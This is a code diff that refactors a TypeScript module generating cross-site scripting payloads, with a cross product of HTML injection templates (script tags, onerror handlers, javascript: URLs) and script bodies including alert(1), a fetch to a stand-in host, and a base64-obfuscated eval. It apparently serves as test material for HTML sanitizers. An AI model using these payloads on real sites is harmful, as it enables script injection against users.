@@ -1,6 +1,11 @@
-/** Sixty ways to write a script: each vessel with each way to run what it holds. */
-const RUN = ['alert(1)', 'fetch(`//x.example`)', 'eval(atob("YWxlcnQoMSk="))', 'top.location=1'];
-const VESSELS = [
+/** Sixty ways to write a script: each template with each script. */
+const SCRIPTS = [
+  'alert(1)',
+  'fetch(`//x.example`)',
+  'eval(atob("YWxlcnQoMSk="))',
+  'top.location=1',
+];
+const TEMPLATES = [
   (run: string) => `<script>${run}</script>`,
   (run: string) => `<ScRiPt src=data:,${run}></sCrIpT>`,
   (run: string) => `<img src=x onerror="${run}">`,
@@ -17,4 +22,4 @@ const VESSELS = [
   (run: string) => `<!--><script>${run}</script-->`,
   (run: string) => `<object data="javascript:${run}"></object>`,
 ];
-export const SCRIPT_PAYLOADS = VESSELS.flatMap((vessel) => RUN.map(vessel));
+export const SCRIPT_PAYLOADS = TEMPLATES.flatMap((template) => SCRIPTS.map(template));
